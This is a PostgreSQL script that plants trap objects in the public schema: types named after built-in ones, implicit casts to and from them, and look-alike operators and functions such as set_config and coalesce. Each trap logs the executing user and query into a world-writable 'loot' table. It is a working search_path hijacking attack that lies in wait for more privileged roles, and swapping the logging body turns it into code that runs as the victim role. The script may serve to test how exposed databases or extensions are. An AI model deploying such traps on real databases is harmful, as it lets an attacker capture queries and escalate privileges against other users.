-- Casts that a role which may create in public can lay in wait there: types that have the names of PostgreSQL's
-- own, with implicit casts from and to those, and operators and functions that suit once such a cast is made.
-- Domains would not do: their casts are ignored. Everything notes in public.loot who executed it.
CREATE TABLE public.loot (who text, what text, query text);
GRANT INSERT, SELECT ON public.loot TO PUBLIC;

CREATE FUNCTION public.took(what text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS
$$ BEGIN INSERT INTO public.loot VALUES (current_user, what, current_query()); END $$;

DO $$
DECLARE
    t text; f text; op text;
    types text[] := '{int2,int4,int8,text,uuid,bytea,timestamptz,bool,interval,name,oid,xid8,regclass,json,jsonb,float8,numeric}';
BEGIN
    FOREACH t IN ARRAY types LOOP
        EXECUTE pg_catalog.format('CREATE TYPE public.%I AS (v pg_catalog.int4)', t);
    END LOOP;
    FOREACH t IN ARRAY types LOOP
        FOREACH f IN ARRAY types LOOP
            EXECUTE pg_catalog.format('CREATE FUNCTION public.into_%s(pg_catalog.%s) RETURNS public.%I LANGUAGE plpgsql AS %L', t, f, t,
                pg_catalog.format('BEGIN PERFORM public.took(%L); RETURN NULL; END', pg_catalog.concat('cast from ', f, ' to public.', t)));
            EXECUTE pg_catalog.format('CREATE CAST (pg_catalog.%s AS public.%I) WITH FUNCTION public.into_%s(pg_catalog.%s) AS IMPLICIT', f, t, t, f);
            EXECUTE pg_catalog.format('CREATE FUNCTION public.out_of_%s_%s(public.%I) RETURNS pg_catalog.%s LANGUAGE plpgsql AS %L', t, f, t, f,
                pg_catalog.format('BEGIN PERFORM public.took(%L); RETURN NULL; END', pg_catalog.concat('cast from public.', t, ' to ', f)));
            EXECUTE pg_catalog.format('CREATE CAST (public.%I AS pg_catalog.%s) WITH FUNCTION public.out_of_%s_%s(public.%I) AS IMPLICIT', t, f, t, f, t);
        END LOOP;
        FOREACH op IN ARRAY '{=,<>,<,<=,>,>=,&,|,+,-,*,||,>>,<<,~~}'::pg_catalog.text[] LOOP
            EXECUTE pg_catalog.format('CREATE FUNCTION public.%I(public.%I, public.%I) RETURNS pg_catalog.bool LANGUAGE plpgsql AS %L',
                pg_catalog.concat('op ', op, ' ', t), t, t, pg_catalog.format('BEGIN PERFORM public.took(%L); RETURN NULL; END', pg_catalog.concat('operator ', op, ' of public.', t)));
            EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = public.%I, RIGHTARG = public.%I, FUNCTION = public.%I)', op, t, t,
                pg_catalog.concat('op ', op, ' ', t));
        END LOOP;
        FOREACH f IN ARRAY '{coalesce,least,greatest,count,sum,min,max,power,lower,length,octet_length,octet,hashtextextended,cardinality,convert_from,
            array_length,set_config,current_setting,pg_notify,to_regclass,encode,decode,substring,string_agg}'::pg_catalog.text[] LOOP
            EXECUTE pg_catalog.format('CREATE FUNCTION public.%I(public.%I) RETURNS public.%I LANGUAGE plpgsql AS %L', f, t, t,
                pg_catalog.format('BEGIN PERFORM public.took(%L); RETURN NULL; END', pg_catalog.concat('function ', f, ' of public.', t)));
        END LOOP;
    END LOOP;
END $$;
